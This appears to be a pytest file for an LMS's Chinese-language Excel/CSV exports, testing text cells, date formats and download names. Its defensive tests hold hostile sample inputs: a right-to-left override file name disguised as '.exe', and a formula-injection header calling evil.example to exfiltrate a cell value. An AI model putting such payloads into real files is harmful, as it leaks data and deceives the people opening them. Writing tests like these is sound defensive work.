"""Every export opened as Excel opens it: 工号 keep their leading zeros (text
cells in XLSX, a tab before them in CSV), dates are date cells in a Chinese
format, headers are Chinese, bold and frozen, columns wide enough to read, and
the file downloads under a Chinese name (RFC 5987) with an ASCII name for old
clients."""
from __future__ import annotations

import csv
import io
from datetime import date
from urllib.parse import unquote

import openpyxl
import pytest
from flask_babel import force_locale

from lms.reports.exports import attachment, file_name, to_csv, to_xlsx
from tests.conftest import sign_in
from tests.reports.test_roster_pages import bank  # noqa: F401  (fixture)


def _download_name(response) -> tuple[str, str]:
    """(the name a browser that reads RFC 5987 saves, the ASCII fallback)."""
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment; ")
    fallback = disposition.split('filename="', 1)[1].split('"', 1)[0]
    return unquote(disposition.split("filename*=UTF-8''", 1)[1]), fallback


def test_a_table_opens_in_excel_with_text_numbers_date_cells_and_readable_columns(app):
    headers = ["工号", "姓名", "机构", "到期日", "原因"]
    rows = [["00123", "欧阳·娜", "株洲分行天元支行营业部", date(2026, 3, 5), "=1+1"],
            ["430202199001011234", "𠮷田晓", "芦淞支行", None, "-"]]
    with app.test_request_context(), force_locale("zh_CN"):
        book = openpyxl.load_workbook(io.BytesIO(to_xlsx("到期[名单]", headers, rows)))
        body = to_csv(headers, rows).decode("utf-8-sig")
    sheet = book.active
    assert sheet.title == "到期(名单)" and sheet.freeze_panes == "A2" and sheet["A1"].font.b
    assert [c.value for c in sheet[1]] == headers
    assert sheet["A2"].value == "00123" and sheet["A2"].data_type == "s"
    assert sheet["D2"].value.date() == date(2026, 3, 5) and sheet["D2"].is_date
    assert sheet["D2"].number_format == 'yyyy"年"m"月"d"日"'
    assert sheet["E2"].data_type == "s" and sheet["E2"].value == "=1+1"
    # Wide enough for the longest text of each column: a Chinese character is two widths.
    assert sheet.column_dimensions["A"].width >= 18 and sheet.column_dimensions["C"].width >= 22
    assert sheet.column_dimensions["D"].width >= 12
    # In CSV a number-like text is kept text by a tab Excel leaves it with; a formula by an apostrophe.
    parsed = list(csv.reader(io.StringIO(body)))
    assert parsed[1] == ["\t00123", "欧阳·娜", "株洲分行天元支行营业部", "2026-03-05", "'=1+1"]
    assert parsed[2][0] == "\t430202199001011234"


def test_a_download_name_is_chinese_with_an_ascii_fallback():
    name = file_name("已逾期", "2026 春季/新员工*培训", "2026-03-02")
    assert name == "已逾期-2026 春季_新员工_培训-2026-03-02"
    header = attachment(f"{name}.xlsx", "overdue-spring-2026-03-02.xlsx")
    assert header.startswith('attachment; filename="overdue-spring-2026-03-02.xlsx"; filename*=UTF-8\'\'')
    assert header.isascii() and unquote(header.split("''", 1)[1]) == f"{name}.xlsx"


def test_report_exports_download_under_chinese_names_with_date_cells(client, bank, make_user):  # noqa: F811
    sign_in(client, make_user(("hr",), employee_no="hr"))
    p = bank["programme"]
    answer = client.get(f"/reports/export/overdue.xlsx?programme={p.id}")
    name, fallback = _download_name(answer)
    assert name == f"已逾期-{p.title}-2026-03-02.xlsx" and fallback == f"overdue-{p.slug}-2026-03-02.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(answer.data)).active
    due = [c for c in sheet[1] if c.value == "截止"]
    assert due, [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=due[0].column)
    assert cell.is_date and cell.number_format == 'yyyy"年"m"月"d"日"'
    assert sheet.freeze_panes == "A2"
    roster = client.get(f"/reports/export/roster.csv?programme={p.id}")
    assert _download_name(roster) == (f"学习进度-{p.title}-2026-03-02.csv", f"roster-{p.slug}-2026-03-02.csv")


def test_a_title_with_a_right_to_left_override_does_not_turn_the_download_name_round(client, bank, make_user):  # noqa: F811
    """A programme published before titles were checked, titled "新员工\u202eslx.exe": the
    roster's download was "学习进度-新员工<RLO>slx.exe-2026-03-02.xlsx", which a download bar
    shows ending in ".exe"-like text. The name keeps no invisible or text-direction character."""
    from lms.extensions import db

    sign_in(client, make_user(("hr",), employee_no="hr"))
    p = bank["programme"]
    p.title = "新员工\u202eslx.exe\u200b"
    db.session.commit()
    name, _fallback = _download_name(client.get(f"/reports/export/roster.xlsx?programme={p.id}"))
    assert name == "学习进度-新员工slx.exe-2026-03-02.xlsx"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_import_templates_download_under_chinese_names(client, make_user, fmt):
    sign_in(client, make_user(("hr",), employee_no="hr01"))
    people = client.get(f"/org/people/import/template.{fmt}")
    assert _download_name(people) == (f"人员导入模板.{fmt}", f"people_import_template.{fmt}")
    pairings = client.get(f"/mentoring/admin/import/template.{fmt}")
    assert _download_name(pairings) == (f"师徒结对导入模板.{fmt}", f"pairing_import_template.{fmt}")
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(people.data)).active
        assert sheet.freeze_panes == "A2" and sheet["A2"].number_format == "@"  # 工号 typed stays text


def test_a_header_that_looks_like_a_formula_stays_text(app):
    """A header may carry a name someone typed (a quarter's, a dimension's): openpyxl
    wrote "=HYPERLINK(…)" there as a formula, which Excel runs when HR opens the file."""
    headers = ["工号", '=HYPERLINK("https://evil.example/?d="&B2,"点击")', "+1", "@SUM(1)", "名\u202egnp"]
    with app.test_request_context(), force_locale("zh_CN"):
        sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx("名单", headers, [["T1", "x", "y", "z", "w"]]))).active
    assert [c.data_type for c in sheet[1]] == ["s"] * 5
    assert sheet["B1"].value.startswith("=HYPERLINK") and sheet["E1"].value == "名[U+202E]gnp"
